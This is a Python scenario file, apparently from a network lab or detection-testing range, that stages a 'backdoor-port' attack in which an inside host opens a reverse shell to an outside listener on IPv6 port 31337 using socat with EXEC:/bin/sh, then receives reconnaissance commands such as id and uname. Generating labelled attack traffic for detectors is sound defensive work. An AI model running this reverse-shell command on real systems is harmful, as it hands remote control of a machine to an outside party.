"""An inside host calls a listener outside at 31337 and takes orders."""

from lab.range import Range
from lab.scenario import Scenario

ORDERS = "for order in id 'uname -s' 'head -n 12 /etc/services' id; do sleep 3; echo $order; done; sleep 1"


def run(net: Range) -> None:
    pc3, listener = net.inside("pc3"), net.outside("www")
    net.everyday()
    with net.attack(
        "backdoor-port",
        by=[pc3, listener],
        attackers=[listener.ip6],
        victims=[pc3.ip6],
        others={"client": [pc3.ip6], "server": [listener.ip6]},
        also=["reverse-shell"],
        frames=f"ip6 and ip6[6] == 6 and host {listener.ip6} and port 31337",
    ):
        net.start(listener, "sh", "-c", f"({ORDERS}) | socat - TCP6-LISTEN:31337,reuseaddr")
        net.quiet(0.7)
        net.tool(pc3, "socat", f"TCP6:[{listener.ip6}]:31337", "EXEC:/bin/sh", seconds=20)
    net.quiet(2)


SCENARIO = Scenario(
    name="backdoor-port-held-reverse",
    about="An inside host calls port 31337 outside over IPv6 and gives it a shell, by socat.",
    detectors=("backdoor-port",),
    tools={"socat": "socat"},
    run=run,
)
